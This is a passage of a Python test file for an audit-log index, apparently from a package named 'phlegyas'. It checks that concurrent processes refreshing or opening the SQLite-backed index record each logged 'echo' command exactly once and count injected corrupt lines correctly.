    assert (later["count"], later["p50"], later["max"]) == (3, 40, 100)
    assert index.human_waits(since=(T0 + timedelta(days=9)).timestamp()) == {
        "count": 0, "p50": None, "p90": None, "max": None, "points": []}


# --- two processes at once -----------------------------------------------------------------------

REFRESHER = r"""
import os, sys
from phlegyas.store.audit_index import AuditIndex
log, stop = sys.argv[1], sys.argv[2]
added = 0
with AuditIndex(log) as ix:
    print("ready", flush=True)
    while not os.path.exists(stop):
        added += ix.refresh()
    added += ix.refresh()
print(added)
"""


def test_two_processes_refreshing_at_once_index_every_line_once(log, tmp_path):
    write(log, "echo start")
    stop = tmp_path / "stop"
    procs = [subprocess.Popen([sys.executable, "-c", REFRESHER, log.path, str(stop)], stdout=subprocess.PIPE, text=True)
             for _ in range(2)]
    try:
        for p in procs:
            assert p.stdout.readline() == "ready\n"
        count = 1500
        for i in range(count):
            write(log, f"echo {i}", session=f"s-{i % 17}")
            if i % 300 == 0:
                with open(log.path, "ab") as f:
                    f.write(b"corrupt line\n")
        stop.touch()
        added = [int(p.communicate(timeout=120)[0]) for p in procs]
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
            p.wait()
    with AuditIndex(log.path) as ix:
        assert ix.refresh() == 0
        assert sum(added) == count + 1
        rows = every_row(ix)
        assert sorted(commands(rows)) == sorted(["echo start"] + [f"echo {i}" for i in range(count)])
        assert len({r.id for r in rows}) == count + 1
        assert ix.corrupt_lines == 5
        assert ix.totals()["total"] == count + 1
        assert len(every_row(ix, session="s-3")) == len(range(3, count, 17))


OPENER = r"""
import os, sys, time
from phlegyas.store.audit_index import AuditIndex
log, go = sys.argv[1], sys.argv[2]
while not os.path.exists(go):
    time.sleep(0.001)
with AuditIndex(log) as ix:
    print(ix.refresh() >= 0)
"""


def test_processes_opening_one_new_index_at_once_all_succeed(log, tmp_path):
    """Switching a new file to WAL can be refused at once, without the busy handler: the open retries."""
    write(log, "echo start")
    for attempt in range(3):
        go = tmp_path / f"go-{attempt}"
        index = tmp_path / f"index-{attempt}"
        code = OPENER.replace("AuditIndex(log)", f"AuditIndex(log, {str(index)!r})")
        procs = [subprocess.Popen([sys.executable, "-c", code, log.path, str(go)], stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True) for _ in range(6)]
        time.sleep(0.5)
        go.touch()
        for p in procs:
            out, err = p.communicate(timeout=120)
            assert p.returncode == 0 and out.strip() == "True", err
